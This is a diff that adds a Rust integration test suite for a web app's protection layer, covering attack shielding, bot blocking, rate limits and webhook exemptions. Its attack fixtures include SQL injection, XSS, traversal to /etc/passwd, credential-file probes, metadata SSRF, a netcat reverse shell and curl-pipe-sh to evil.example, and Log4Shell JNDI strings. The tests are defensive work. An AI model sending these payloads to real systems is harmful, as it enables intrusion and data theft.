@@ -1,0 +1,450 @@
+//! The protection layer end to end through the router, on both stores: the shield (a table of
+//! attacks blocked and of technical text accepted), the bot rules, the sliding windows (a burst
+//! of 130 meets its first 429 after request 100; two instances sharing a table hold one count;
+//! per user on the AI routes), each rule in each mode, the webhook's exemptions, the RateLimit
+//! headers, and `GET /api/arcjet`.
+
+use std::net::SocketAddr;
+use std::sync::Arc;
+
+use axum::body::Body;
+use axum::extract::ConnectInfo;
+use darasa::protect::{Mode, Modes, Protection};
+use darasa_tests::app::{Store, TestApp, TestResponse, request};
+use darasa_tests::fixtures::ALICE;
+use darasa_tests::on_both_stores;
+use http::{Method, Request, StatusCode};
+use serde_json::json;
+
+const BROWSER: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
+
+fn live() -> Modes {
+    Modes::LIVE
+}
+
+/// A clock stopped one second into the current minute, so a test's requests all fall in one
+/// window whatever the machine's speed (window items still expire in real time, minutes later).
+fn stopped_clock() -> Arc<dyn darasa::clock::Clock> {
+    let now = time::OffsetDateTime::now_utc().unix_timestamp();
+    darasa_tests::clerk::TestClock::new(now - now.rem_euclid(60) + 1).shared()
+}
+
+/// Rules in `modes` on a stopped clock.
+fn rules(modes: Modes) -> Arc<Protection> {
+    Arc::new(Protection::new(modes, stopped_clock()))
+}
+
+/// A request from `ip` with a browser's User-Agent (unless `headers` set another).
+fn from(ip: &str, mut request: Request<Body>, headers: &[(&str, &str)]) -> Request<Body> {
+    let addr: SocketAddr = format!("{ip}:40000").parse().expect("an address");
+    request.extensions_mut().insert(ConnectInfo(addr));
+    if !headers.iter().any(|(name, _)| name.eq_ignore_ascii_case("user-agent")) {
+        request.headers_mut().insert("user-agent", BROWSER.parse().expect("a header"));
+    }
+    for (name, value) in headers {
+        request.headers_mut().insert(
+            http::HeaderName::from_bytes(name.as_bytes()).expect("a name"),
+            value.parse().expect("a value"),
+        );
+    }
+    request
+}
+
+async fn get(
+    app: &TestApp,
+    ip: &str,
+    path: &str,
+    token: Option<&str>,
+    headers: &[(&str, &str)],
+) -> TestResponse {
+    app.send(from(ip, request(Method::GET, path, token, None, &[]), headers)).await
+}
+
+on_both_stores!(
+    a_burst_meets_its_first_429_after_the_hundredth_request,
+    two_instances_sharing_a_table_hold_one_count,
+    attacks_are_blocked_and_technical_text_is_not,
+    repeated_attacks_block_the_client_for_a_while,
+    bots_are_refused_unless_they_are_allowed_kinds,
+    dry_run_decides_and_off_skips,
+    the_ai_routes_count_per_user_and_answer_in_plain_text,
+    the_webhook_is_exempt_from_bot_and_user_rules,
+    arcjet_reports_the_decision_and_the_limits,
+);
+
+async fn a_burst_meets_its_first_429_after_the_hundredth_request(store: Store) {
+    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let token = app.token(ALICE, &[]);
+    let mut first_refused = None;
+    for n in 1..=130 {
+        let response = get(&app, "198.51.100.7", "/api/job-infos", Some(&token), &[]).await;
+        if response.status == StatusCode::TOO_MANY_REQUESTS {
+            first_refused.get_or_insert(n);
+            response.assert_problem(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
+            let retry_after: u64 = response.header("retry-after").expect("Retry-After").parse().unwrap();
+            assert!((1..=60).contains(&retry_after), "{retry_after}");
+        } else {
+            assert_eq!(response.status, StatusCode::OK, "request {n}: {}", response.text());
+            assert!(first_refused.is_none(), "request {n} passed after a refusal");
+            assert_eq!(response.header("ratelimit-policy"), Some("\"ip\";q=100;w=60"));
+            let remaining = 100 - n;
+            assert!(
+                response
+                    .header("ratelimit")
+                    .is_some_and(|value| value.starts_with(&format!("\"ip\";r={remaining};t="))),
+                "request {n}: {:?}",
+                response.header("ratelimit")
+            );
+        }
+    }
+    assert_eq!(first_refused, Some(101));
+    // Another client is not affected.
+    assert_eq!(get(&app, "198.51.100.8", "/api/job-infos", Some(&token), &[]).await.status, StatusCode::OK);
+}
+
+async fn two_instances_sharing_a_table_hold_one_count(store: Store) {
+    // Two Lambda instances: one table, two routers, two sets of in-process caches.
+    let first = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let second =
+        TestApp::builder(store).table(first.table.clone()).shared_protection(rules(live())).build().await;
+    let token = first.token(ALICE, &[]);
+    let mut allowed = 0;
+    for n in 0..120 {
+        let app = if n % 2 == 0 { &first } else { &second };
+        if get(app, "198.51.100.9", "/api/job-infos", Some(&token), &[]).await.status == StatusCode::OK {
+            allowed += 1;
+        }
+    }
+    assert_eq!(allowed, 100, "one global count across both instances");
+}
+
+/// Requests that carry an attack in the path, the query or a header.
+fn attacks() -> Vec<(String, Vec<(&'static str, &'static str)>)> {
+    let paths = [
+        "/api/job-infos?x=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+        "/api/job-infos?x=1'%20UNION%20SELECT%20password%20FROM%20users--",
+        "/api/job-infos?id=1%20OR%201%3D1",
+        "/api/job-infos?name=%27%3B%20DROP%20TABLE%20users%3B--",
+        "/api/job-infos?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "/api/job-infos?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+        "/api/job-infos?next=javascript:alert(document.cookie)",
+        "/api/job-infos?file=../../../../etc/passwd",
+        "/api/job-infos?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+        "/api/questions/..%2f..%2f..%2fetc%2fshadow",
+        "/api/job-infos?cmd=%3B%20cat%20%2Fetc%2Fpasswd",
+        "/api/job-infos?host=127.0.0.1%20%7C%20nc%20-e%20%2Fbin%2Fsh%20evil.example%204444",
+        "/api/job-infos?x=%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh)",
+        "/api/job-infos?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+        "/api/job-infos?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+        "/.env",
+        "/.git/config",
+        "/wp-admin/",
+        "/wp-login.php",
+        "/phpmyadmin/index.php",
+        "/.aws/credentials",
+        "/server-status",
+        "/cgi-bin/test.cgi",
+        "/api/job-infos?page=http://169.254.169.254/latest/meta-data/",
+        "/api/job-infos?x=1%20AND%20SLEEP(5)",
+        "/api/job-infos?x=UnIoN%20SeLeCt%201,2,3",
+    ];
+    let mut cases: Vec<(String, Vec<(&'static str, &'static str)>)> =
+        paths.iter().map(|path| ((*path).to_owned(), Vec::new())).collect();
+    for header in [
+        ("user-agent", "${jndi:ldap://evil.example/a}"),
+        ("x-api-version", "${jndi:rmi://evil.example:1099/obj}"),
+        ("referer", "http://example.com/?q=<script>alert(1)</script>"),
+        ("x-forwarded-host", "evil.example; cat /etc/passwd"),
+        ("cookie", "theme=dark; session=' OR '1'='1"),
+        ("x-custom", "../../../../etc/passwd"),
+    ] {
+        cases.push(("/api/job-infos".to_owned(), vec![header]));
+    }
+    cases
+}
+
+/// Requests and bodies a real client sends: technical prose, SQL, HTML and shell in bodies,
+/// ordinary queries and headers.
+fn benign_requests() -> Vec<(String, Vec<(&'static str, &'static str)>)> {
+    let paths = [
+        "/api/job-infos",
+        "/api/job-infos?limit=20",
+        "/api/job-infos?limit=5&cursor=eyJwayI6IlVTRVIjdXNlcl9hbGljZSIsInNrIjoiSk9CSU5GTyMwMTkwIn0",
+        "/api/me",
+        "/api/arcjet",
+        "/.well-known/jwks.json",
+        "/api/job-infos?q=O'Reilly",
+        "/api/job-infos?q=rock%20%26%20roll",
+        "/api/job-infos?q=select%20a%20union%20rep",
+        "/api/job-infos?q=drop%20shipping%20platform",
+        "/api/job-infos?email=ada.lovelace%40example.com",
+        "/api/job-infos?redirect=https%3A%2F%2Fapp.example.com%2Fjobs",
+        "/api/job-infos?q=C%2B%2B%20and%20C%23",
+        "/api/job-infos?q=node.js%20%26%20react",
+        "/api/job-infos?title=Senior%20SQL%20Developer",
+    ];
+    let mut cases: Vec<(String, Vec<(&'static str, &'static str)>)> =
+        paths.iter().map(|path| ((*path).to_owned(), Vec::new())).collect();
+    for header in [
+        ("accept", "*/*"),
+        ("accept-language", "en-GB,en;q=0.9,fr;q=0.8"),
+        ("referer", "https://app.example.com/jobs?tab=questions&sort=newest"),
+        ("if-none-match", "W/\"2\", \"3\""),
+        ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
+        ("x-request-id", "0190b6b0-4a5e-7c3a-9f00-00000000e001"),
+        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
+        ("cookie", "theme=dark; tz=Europe/London"),
+        ("origin", "https://app.example.com"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+        ),
+        ("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
+        ("user-agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
+        ("content-type", "application/json; charset=utf-8"),
+        ("cache-control", "no-cache"),
+        ("dnt", "1"),
+    ] {
+        cases.push(("/api/job-infos".to_owned(), vec![header]));
+    }
+    cases
+}
+
+/// Job descriptions full of what the shield looks for, which must be accepted in bodies.
+const TECHNICAL_TEXTS: &[&str] = &[
+    "SELECT * FROM users WHERE id = 1 OR 1=1; <script>",
+    "Write queries like SELECT name FROM jobs UNION SELECT name FROM archive; avoid DROP TABLE in migrations.",
+    "Harden the API against ${jndi:ldap://x} payloads and ../../etc/passwd traversal.",
+    "Run `curl https://example.com/install.sh | sh` and `cat /etc/hosts` in CI.",
+    "Render <img src=x onerror=alert(1)> safely in React; know javascript: URLs.",
+];
+
+async fn attacks_are_blocked_and_technical_text_is_not(store: Store) {
+    let app = TestApp::builder(store)
+        .shared_protection(rules(Modes { rate_limit: Mode::Off, ..live() }))
+        .build()
+        .await;
+    let token = app.token(ALICE, &[]);
+    let attacks = attacks();
+    assert!(attacks.len() >= 30);
+    for (n, (path, headers)) in attacks.into_iter().enumerate() {
+        // One client each, so no block from repeated hits changes what is measured.
+        let ip = format!("203.0.113.{}", n + 1);
+        let response =
+            app.send(from(&ip, request(Method::GET, &path, Some(&token), None, &[]), &headers)).await;
+        response.assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
+    }
+    let benign = benign_requests();
+    assert!(benign.len() >= 30);
+    for (path, headers) in benign {
+        let response = get(&app, "192.0.2.10", &path, Some(&token), &headers).await;
+        assert!(response.status != StatusCode::FORBIDDEN, "{path} {headers:?}: {}", response.text());
+    }
+    for text in TECHNICAL_TEXTS {
+        let body = json!({"name": "Backend", "experienceLevel": "senior", "description": text});
+        let created = app
+            .send(from(
+                "192.0.2.10",
+                request(Method::POST, "/api/job-infos", Some(&token), Some(body), &[]),
+                &[],
+            ))
+            .await;
+        assert_eq!(created.status, StatusCode::CREATED, "{text}: {}", created.text());
+    }
+}
+
+async fn repeated_attacks_block_the_client_for_a_while(store: Store) {
+    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let token = app.token(ALICE, &[]);
+    for _ in 0..darasa::protect::SHIELD_BLOCK_AFTER {
+        get(&app, "203.0.113.99", "/.env", None, &[])
+            .await
+            .assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
+    }
+    // Now even a clean request of that client is refused; other clients are not.
+    let response = get(&app, "203.0.113.99", "/api/job-infos", Some(&token), &[]).await;
+    response.assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
+    assert!(response.json()["detail"].as_str().unwrap().contains("blocked for a while"));
+    assert_eq!(get(&app, "203.0.113.100", "/api/job-infos", Some(&token), &[]).await.status, StatusCode::OK);
+    // Another instance sharing the table sees the block too.
+    let other =
+        TestApp::builder(store).table(app.table.clone()).shared_protection(rules(live())).build().await;
+    get(&other, "203.0.113.99", "/api/job-infos", Some(&token), &[])
+        .await
+        .assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
+}
+
+async fn bots_are_refused_unless_they_are_allowed_kinds(store: Store) {
+    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let token = app.token(ALICE, &[]);
+    for agent in [
+        "curl/8.5.0",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "Scrapy/2.11.0 (+https://scrapy.org)",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
+    ] {
+        let response =
+            get(&app, "192.0.2.20", "/api/job-infos", Some(&token), &[("user-agent", agent)]).await;
+        response.assert_problem(StatusCode::FORBIDDEN, "BOT_DENIED");
+    }
+    let mut no_agent = request(Method::GET, "/api/job-infos", Some(&token), None, &[]);
+    no_agent.extensions_mut().insert(ConnectInfo("192.0.2.21:1".parse::<SocketAddr>().unwrap()));
+    app.send(no_agent).await.assert_problem(StatusCode::FORBIDDEN, "BOT_DENIED");
+    for agent in [
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+        BROWSER,
+    ] {
+        let response =
+            get(&app, "192.0.2.22", "/api/job-infos", Some(&token), &[("user-agent", agent)]).await;
+        assert_eq!(response.status, StatusCode::OK, "{agent}: {}", response.text());
+    }
+}
+
+async fn dry_run_decides_and_off_skips(store: Store) {
+    let dry = Modes { shield: Mode::DryRun, bots: Mode::DryRun, rate_limit: Mode::DryRun };
+    let app = TestApp::builder(store).shared_protection(rules(dry)).build().await;
+    let token = app.token(ALICE, &[]);
+    for n in 0..105 {
+        let response = get(
+            &app,
+            "198.51.100.50",
+            "/api/job-infos",
+            Some(&token),
+            &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
+        )
+        .await;
+        assert_eq!(response.status, StatusCode::OK, "request {n}: dry run never denies");
+    }
+    let report = get(
+        &app,
+        "198.51.100.50",
+        "/api/arcjet",
+        Some(&token),
+        &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
+    )
+    .await;
+    let decided = report.json()["decision"]["rules"].clone();
+    assert_eq!(report.json()["decision"]["conclusion"], "ALLOW");
+    for (rule, expected) in [(0, "shield"), (1, "bots"), (2, "rate-limit")] {
+        assert_eq!(decided[rule]["rule"], expected);
+        assert_eq!(decided[rule]["mode"], "dry-run");
+        assert_eq!(decided[rule]["conclusion"], "DENY", "{decided}");
+    }
+
+    let off = TestApp::builder(store).shared_protection(rules(Modes::OFF)).build().await;
+    for _ in 0..105 {
+        let response = get(
+            &off,
+            "198.51.100.51",
+            "/api/job-infos",
+            Some(&token),
+            &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
+        )
+        .await;
+        assert_eq!(response.status, StatusCode::OK);
+        assert!(response.header("ratelimit").is_none(), "off: not evaluated, no headers");
+    }
+    let items = off.table.query(&darasa::store::Query::new("CLIENT#198.51.100.51", "")).await.unwrap();
+    assert!(items.items.is_empty(), "off never touches the table");
+}
+
+async fn the_ai_routes_count_per_user_and_answer_in_plain_text(store: Store) {
+    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let token = app.token(ALICE, &[]);
+    let body = json!({"prompt": "easy", "jobInfoId": "0190b6b0-4a5e-7c3a-9f00-00000000e001"});
+    let path = "/api/ai/questions/generate-question";
+    // From many addresses, so the per-IP window is not what stops them.
+    let mut first_refused = None;
+    for n in 1..=110 {
+        let ip = format!("10.0.{}.{}", n / 200, n % 200 + 1);
+        let response = app
+            .send(from(&ip, request(Method::POST, path, Some(&token), Some(body.clone()), &[]), &[]))
+            .await;
+        if response.status == StatusCode::TOO_MANY_REQUESTS {
+            first_refused.get_or_insert(n);
+            response.assert_plain(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
+            assert!(response.header("retry-after").is_some());
+        } else {
+            // No model configured in this app: the route's own answer, after the layer let it by.
+            assert_eq!(response.status, StatusCode::SERVICE_UNAVAILABLE, "{n}: {}", response.text());
+            assert!(response.header("ratelimit-policy").is_some_and(|p| p.contains("\"user\";q=100;w=60")));
+        }
+    }
+    assert_eq!(first_refused, Some(101));
+    // Bob's own window is untouched.
+    let bob = app.token("user_bob", &[]);
+    let response =
+        app.send(from("10.9.9.9", request(Method::POST, path, Some(&bob), Some(body), &[]), &[])).await;
+    assert_eq!(response.status, StatusCode::SERVICE_UNAVAILABLE);
+}
+
+async fn the_webhook_is_exempt_from_bot_and_user_rules(store: Store) {
+    const SECRET: &str = "whsec_ZGFyYXNhIHdlYmhvb2sgdGVzdHM6IGN1cnJlbnQ=";
+    let app = TestApp::builder(store).shared_protection(rules(live())).webhook_secrets(SECRET).build().await;
+    let webhook = svix::webhooks::Webhook::new(SECRET).unwrap();
+    for n in 0..120 {
+        let body = json!({"type": "session.created", "object": "event", "data": {"id": format!("sess_{n}")}})
+            .to_string();
+        let id = format!("msg_protect_{n}");
+        let now = time::OffsetDateTime::now_utc().unix_timestamp();
+        let signature = webhook.sign(&id, now, body.as_bytes()).unwrap();
+        // Svix's own User-Agent, then none at all: bot rules never apply here.
+        let agent = if n % 2 == 0 { Some("Svix-Webhooks/1.77.0") } else { None };
+        let mut request = Request::post("/api/webhooks/clerk")
+            .header("svix-id", &id)
+            .header("svix-timestamp", now.to_string())
+            .header("svix-signature", signature)
+            .header("content-type", "application/json");
+        if let Some(agent) = agent {
+            request = request.header("user-agent", agent);
+        }
+        let mut request = request.body(Body::from(body)).unwrap();
+        request.extensions_mut().insert(ConnectInfo("52.215.16.239:443".parse::<SocketAddr>().unwrap()));
+        let response = app.send(request).await;
+        assert_eq!(response.status, StatusCode::OK, "delivery {n}: {}", response.text());
+        assert_eq!(response.header("ratelimit-policy"), Some("\"webhook\";q=1200;w=60"));
+    }
+}
+
+async fn arcjet_reports_the_decision_and_the_limits(store: Store) {
+    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
+    let token = app.token(ALICE, &["1_interview"]);
+    let response = get(&app, "198.51.100.77", "/api/arcjet", Some(&token), &[]).await;
+    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
+    let report = response.json();
+    assert_eq!(report["userId"], ALICE);
+    assert_eq!(report["decision"]["conclusion"], "ALLOW");
+    assert_eq!(report["decision"]["ip"], "198.51.100.77");
+    let rules: Vec<&str> = report["decision"]["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|rule| rule["rule"].as_str().unwrap())
+        .collect();
+    assert_eq!(rules, ["shield", "bots", "rate-limit"]);
+    let limit = |name: &str| {
+        report["limits"].as_array().unwrap().iter().find(|l| l["name"] == name).cloned().unwrap()
+    };
+    // This report is the client's first request.
+    assert_eq!(limit("ip")["remaining"], 99);
+    assert_eq!((limit("user")["max"].as_u64(), limit("user")["remaining"].as_u64()), (Some(100), Some(100)));
+    assert_eq!(
+        (limit("interviews")["max"].as_u64(), limit("interviews")["remaining"].as_u64()),
+        (Some(12), Some(12))
+    );
+    assert_eq!(limit("hume-tokens")["remaining"], 12);
+    assert_eq!(
+        (
+            limit("generations-in-flight")["max"].as_u64(),
+            limit("generations-in-flight")["remaining"].as_u64()
+        ),
+        (Some(2), Some(2))
+    );
+    // It needs a token.
+    get(&app, "198.51.100.77", "/api/arcjet", None, &[])
+        .await
+        .assert_problem(StatusCode::UNAUTHORIZED, "UNAUTHENTICATED");
+}
